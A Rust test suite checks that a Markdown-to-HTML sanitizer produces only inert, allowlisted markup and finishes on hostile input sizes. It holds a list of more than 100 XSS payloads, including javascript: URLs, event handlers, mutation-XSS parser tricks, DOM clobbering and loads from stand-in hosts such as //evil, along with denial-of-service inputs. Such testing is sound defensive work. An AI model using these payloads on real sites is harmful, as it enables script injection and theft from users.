//! Whatever is written does nothing: looked at as a browser would, not as text.

use std::time::{Duration, Instant};

use aforo_docs::markdown::{Audience, MAX_BYTES, Options, render, to_safe_html};
use proptest::prelude::*;

use crate::dom::{Element, parse, text, walk};

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];

/// The attributes that an element may have.
fn attributes(name: &str) -> &'static [&'static str] {
    match name {
        "a" => &["href", "title", "rel", "class", "aria-label"],
        "abbr" => &["title"],
        "code" | "figure" | "li" | "p" | "section" | "span" | "sup" => &["class"],
        "details" => &["open"],
        "div" => &["class", "tabindex", "role"],
        "img" => &["src", "alt", "title", "width", "height", "loading"],
        "input" => &["type", "checked", "disabled", "aria-label"],
        "ol" => &["start", "class"],
        "pre" => &["tabindex"],
        "td" | "th" => &["align", "colspan", "rowspan"],
        _ => &[],
    }
}

/// The classes that the pages give a meaning to; none of them looks like a control.
const CLASSES: &[&str] = &[
    "anchor",
    "fn-back",
    "tablew",
    "snippet",
    "task",
    "steps",
    "footnotes",
    "fn",
    "k",
    "s",
    "n",
    "w",
    "c",
    "callout",
    "callout-note",
    "callout-tip",
    "callout-important",
    "callout-warning",
    "callout-caution",
    "callout-l",
    "embed",
    "embed-unknown",
];

/// What a browser would make of this text does nothing and takes nothing over.
fn check(markdown: &str) {
    let options = Options {
        audience: Audience::Writer,
        ..Options::default()
    };
    for html in [to_safe_html(markdown), render(markdown, &options).html] {
        let nodes = parse(&html);
        let shown: String = markdown.chars().take(200).collect();
        walk(&nodes, &mut Vec::new(), &mut |element, around| {
            inert(element, &shown);
            assert!(around.len() < 100, "nested {} deep from {shown:?}", around.len());
        });
        // What the browser reads is what was written: no second reading changes it.
        assert_eq!(parse(&html), nodes);
    }
}

fn inert(element: &Element, markdown: &str) {
    let name = element.name.as_str();
    assert!(ELEMENTS.contains(&name), "<{name}> from {markdown:?}");
    for (attribute, value) in &element.attributes {
        let known = attributes(name).contains(&attribute.as_str()) || attribute == "id";
        assert!(known, "{attribute}={value:?} in <{name}> from {markdown:?}");
        match attribute.as_str() {
            "href" => address(value, &["http", "https", "mailto", "tel"], markdown),
            "src" => assert!(
                value.starts_with("/docs/images/") && !value.contains("/../"),
                "src={value:?} from {markdown:?}"
            ),
            "id" => assert!(value.starts_with("user-"), "id={value} from {markdown:?}"),
            "rel" => assert!(value.contains("noopener"), "{value} from {markdown:?}"),
            "class" if name == "code" => {
                assert!(
                    value.starts_with("language-") && !value.contains(' '),
                    "{value} from {markdown:?}"
                );
            }
            "class" => {
                for class in value.split(' ') {
                    assert!(CLASSES.contains(&class), "class={value} from {markdown:?}");
                }
            }
            "type" => assert_eq!(value, "checkbox"),
            "tabindex" => assert_eq!(value, "0"),
            "role" => assert_eq!(value, "note"),
            _ => {}
        }
    }
    assert!(
        name != "input" || element.attribute("disabled").is_some(),
        "a control from {markdown:?}"
    );
    assert!(
        name != "a" || element.attribute("rel").is_some(),
        "a link without rel from {markdown:?}"
    );
}

/// As browsers read addresses: tabs and line breaks dropped, space and controls around them too, backslashes as
/// slashes.
fn address(value: &str, schemes: &[&str], markdown: &str) {
    let seen: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect();
    let seen = seen.replace('\\', "/").to_lowercase();
    assert!(!seen.starts_with("//"), "{value:?} from {markdown:?}");
    let head = seen.split(['/', '?', '#']).next().unwrap();
    if let Some((scheme, _)) = head.split_once(':') {
        let sound = scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
        assert!(!sound || schemes.contains(&scheme), "{value:?} from {markdown:?}");
    }
}

/// Shapes of attacks on pages that show the HTML of others: handlers, addresses that run, elements that load, parsers
/// that disagree, names that shadow what scripts look up.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)<!--",
    "<script type=module>import('//evil')</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<img src=\"x\" `onerror=alert(1)`>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img srcset='x 1x, //evil 2x'>",
    "<img src=//evil/x.png>",
    "<img src=\\\\evil\\x.png>",
    "<img src=&#x2f;&#x2f;evil/x.png>",
    "<img src=https://evil/x.png>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=//evil dynsrc=//evil>",
    "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=//evil#x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<object data=//evil/x.swf type=application/x-shockwave-flash>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<portal src=//evil>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<track src=x>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<head><base href=//evil></head>",
    "<base href=javascript:/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil/x.css>",
    "<link rel=import href=//evil>",
    "<link rel=preload as=script href=//evil>",
    "<style>*{background:url(//evil)}</style>",
    "<style>@import '//evil/x.css';</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<p style=background:url(//evil)>x</p>",
    "<p style='position:fixed;inset:0;background:#fff'>x</p>",
    "<div class='btn btn-primary bar'>x</div>",
    "<div data-confirm=x data-send>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=java&#10;script:alert(1)>x</a>",
    "<a href=java&Tab;script:alert(1)>x</a>",
    "<a href=&#x6A;avascript:alert(1)>x</a>",
    "<a href=&#0000106avascript:alert(1)>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\u{1}javascript:alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=view-source:javascript:alert(1)>x</a>",
    "<a href=feed:javascript:alert(1)>x</a>",
    "<a href=blob:https://example.com/1>x</a>",
    "<a href=filesystem:https://example.com/1>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/\\evil.example>x</a>",
    "<a href=\\/evil.example>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href=x ping=//evil download>x</a>",
    "<a href=x onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a href=\"x\"onmouseover=\"alert(1)\">x</a>",
    "<a href=x' onmouseover='alert(1)>x</a>",
    "<form action=//evil><input name=q><button>x</button></form>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=password name=password>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onclick=alert(1) onpointerrawupdate=alert(1)>b</b>",
    "<b popover id=x>x</b><button popovertarget=x>y</button>",
    "<p is=x-element slot=y part=z>x</p>",
    "<copy-button for=x><button>y</button></copy-button>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<!---><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "</p></div></main><img src=x onerror=alert(1)>",
    "</article></section></body></html><h1>Mine</h1>",
    "<table><td><table><img src=x onerror=alert(1)></table>",
    "<table><tr><td><a href=x><table><td></a><b onclick=alert(1)>",
    "<p title='--><img src=x onerror=alert(1)>'>x</p>",
    "<div id=main name=body>x</div>",
    "<a id=location name=cookie href=x>x</a>",
    "<img name=getElementById id=body src=/docs/images/x>",
    "<a id=user-x>x</a><a id='x y\"onclick=alert(1)'>y</a>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<td colspan=99999999>x</td>",
    "<table><td colspan=99999999 rowspan=99999999>x</table>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<svg/onload=alert(1)//",
    "<a href=\"javascript:alert(1)\"",
    "<x onclick=alert(1)>x</x>",
    "<\u{0}script>alert(1)</script>",
    "<script\u{0}>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
];

#[test]
fn no_payload_does_anything_wherever_it_stands() {
    assert!(PAYLOADS.len() >= 100);
    for payload in PAYLOADS {
        let quoted = payload.replace('\n', "\n> ");
        for markdown in [
            (*payload).to_owned(),
            format!("text {payload} text"),
            format!("> {quoted}"),
            format!("> [!WARNING]\n> {quoted}"),
            format!("# {payload}\n\n[up](#{payload})"),
            format!("- {payload}\n1. {payload}"),
            format!("|{payload}|\n|-|\n|{payload}|"),
            format!("`{payload}` ``` {payload} ```"),
            format!("```{payload}\n{payload}\n```\n{payload}"),
            format!("```html title=\"{payload}\"\n{payload}\n```"),
            format!("~~~js {payload}\n{payload}"),
            format!("[{payload}]({payload}) ![{payload}]({payload})"),
            format!("[{payload}](<{payload}> \"{payload}\") <{payload}>"),
            format!("[x][{payload}]\n\n[{payload}]: <{payload}> '{payload}'"),
            format!("[^x] {payload}\n\n[^x]: {payload}\n[^{payload}]: x"),
            format!("[{payload}](operation:{payload})"),
            format!("[x](schema:{payload}) text"),
            format!("<div>\n\n{payload}\n\n</div>"),
            format!("<details><summary>{payload}</summary>\n\n{payload}\n</details>"),
            format!("<table><tr><td>\n{payload}\n\n**x**\n</table>{payload}"),
            format!("<b>{payload}</b><a href=\"{payload}\" title='{payload}'>{payload}</a>"),
            format!("**{payload}** ~~{payload}~~ *{payload}*\\\n{payload}"),
        ] {
            check(&markdown);
        }
    }
}

#[test]
fn addresses_cannot_run_code_nor_pretend_to_be_ours() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\u{0}script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "\u{1}javascript:alert(1)",
        "<java\tscript:alert(1)>",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://example.com/1",
        "//evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "/\t/evil.example",
        "<//evil.example>",
        "operation:",
        "schema:javascript:alert(1)",
    ] {
        for markdown in [
            format!("[x]({address})"),
            format!("![x]({address})"),
            format!("<{address}>"),
            format!("[x][r]\n\n[r]: {address}"),
        ] {
            check(&markdown);
        }
    }
}

#[test]
fn what_is_not_done_is_shown() {
    for shown in [
        "<script>alert(1)</script>",
        "<your-key>",
        "<svg onload=x>",
        "<iframe src=x>",
        "a <- b",
        "<!DOCTYPE x>",
    ] {
        let html = to_safe_html(shown);
        assert_eq!(text(&parse(&html)).trim(), shown, "{html}");
    }
}

/// Each takes well under a second in a release build; a debug build on a busy machine gets more.
#[test]
fn hostile_sizes_end_soon() {
    let repeated = |part: &str| part.repeat(MAX_BYTES / part.len());
    let cases = [
        ("brackets", repeated("[")),
        ("links", repeated("[a](")),
        ("closed links", repeated("[a](b)")),
        ("emphasis", repeated("*a_ ")),
        ("stars", repeated("*")),
        ("quotes", repeated("> ")),
        ("quotes with text", repeated("> a\n>> b\n")),
        ("backticks", repeated("`")),
        (
            "unequal backticks",
            (1..900).map(|n| "`".repeat(n) + "a").collect(),
        ),
        ("fences", repeated("```\n")),
        ("images", repeated("![")),
        ("tags", repeated("<a ")),
        ("open tags", repeated("<b>")),
        ("blocks", repeated("<div>\n\n")),
        ("paragraphs", repeated("<p><b><i>")),
        ("tables in HTML", repeated("<table>x")),
        ("cells in HTML", format!("<table>{}", repeated("<b></b>"))),
        ("rows in HTML", format!("<table>{}", repeated("<tr><td>"))),
        ("comments", repeated("<!--")),
        ("comments in lines", format!("a {}", repeated("<!-- "))),
        ("entities", repeated("&amp;&x")),
        (
            "wide table",
            "|a".repeat(60_000) + "|\n" + &"|-".repeat(60_000) + "|\n|b|\n|c|",
        ),
        (
            "long table",
            "|a|b|\n|-|-|\n".to_owned() + &"|1|2|\n".repeat(60_000),
        ),
        (
            "ragged table",
            "|a".repeat(3_000) + "|\n" + &"|-".repeat(3_000) + "|\n" + &"|\n".repeat(3_000),
        ),
        ("lists", (0..700).map(|n| " ".repeat(2 * n) + "- a\n").collect()),
        ("one list", repeated("- ")),
        ("steps", repeated("1. **a**\n")),
        ("headings", repeated("# a\n")),
        (
            "footnotes",
            (0..20_000)
                .map(|n| format!("[^{n}]\n\n[^{n}]: [^{}]\n\n", n + 1))
                .collect(),
        ),
        (
            "definitions",
            (0..20_000).map(|n| format!("[a{n}]: /b\n")).collect::<String>() + &repeated("[a1]"),
        ),
        ("callouts", repeated("> [!NOTE]\n> ")),
        ("code", format!("```js\n{}\n```", repeated("/*'\"`${("))),
        (
            "code in lines",
            format!("```html\n{}```", repeated("<script>\n`${\n")),
        ),
        (
            "code in many blocks",
            repeated("```rust\nfn a() -> &'static str { \"b\" }\n```\n"),
        ),
        ("embeds", repeated("[a](operation:b)\n\n")),
        ("letters", repeated("é")),
        ("nothing", repeated("\0")),
    ];
    for (name, markdown) in cases {
        let began = Instant::now();
        let rendered = render(&markdown, &Options::default());
        let took = began.elapsed();
        assert!(took < Duration::from_secs(8), "{name} took {took:?}");
        assert!(
            rendered.html.len() < 40 * MAX_BYTES,
            "{name} gave {} bytes",
            rendered.html.len()
        );
        if std::env::var_os("SHOW_TIMES").is_some() {
            eprintln!("{name}: {took:?}, {} bytes", rendered.html.len());
        }
    }
    let quotes = to_safe_html(&("> ".repeat(20_000) + "inside"));
    assert!(quotes.matches("<blockquote>").count() <= 40 && quotes.contains("inside"));
    assert!(to_safe_html(&"# a\n".repeat(20_000)).contains("id=\"user-a-20000\""));
}

#[test]
fn small_bombs_are_inert_too() {
    for text in [
        "[".repeat(2_000),
        "> ".repeat(2_000) + "x",
        "<div>\n\n".repeat(300) + "x",
        "<b><i><u>".repeat(300) + "x",
        "<table>\n\n".repeat(300) + "x",
        "<details><summary>".repeat(300) + "x",
        "|a".repeat(500) + "\n" + &"|-".repeat(500),
        "- ".repeat(500) + "x",
        "`".repeat(3_000),
    ] {
        check(&text);
    }
}

proptest! {
    #[test]
    fn whatever_is_written_comes_out_safe(markdown in "[\\[\\]()<>!*_`#|:/\\\\a-c \n\t\"'&;=-]{0,200}") {
        check(&markdown);
    }

    #[test]
    fn whatever_is_said_comes_out_safe(words in prop::collection::vec(prop::sample::select(vec![
        "<", ">", "<script", "</script>", "<svg", "onload=", "[x](", "javascript:", "data:", ")", "![", "](", "\n", "\n\n", "    ",
        "`", "```", "<!--", "-->", "\"", "'", "#", "|", "[r]: ", "&#x6a;", "\u{0}", "\\", "//evil", "<a href=", "id=x", "{#x}", "[^1]", "[^1]: ",
        "<table>", "<tr>", "<td>", "</td>", "</table>", "<b>", "</b>", "<div>", "</div>", "<p>", "<li>", "<ul>", "</ul>", "> ", "- ",
        "<details>", "</details>", "<summary>", "[!NOTE]", "operation:x", "<a>", "</a>", "<img src=", "<br>", "|-|", "|a|",
    ]), 0..40)) {
        check(&words.concat());
    }
}
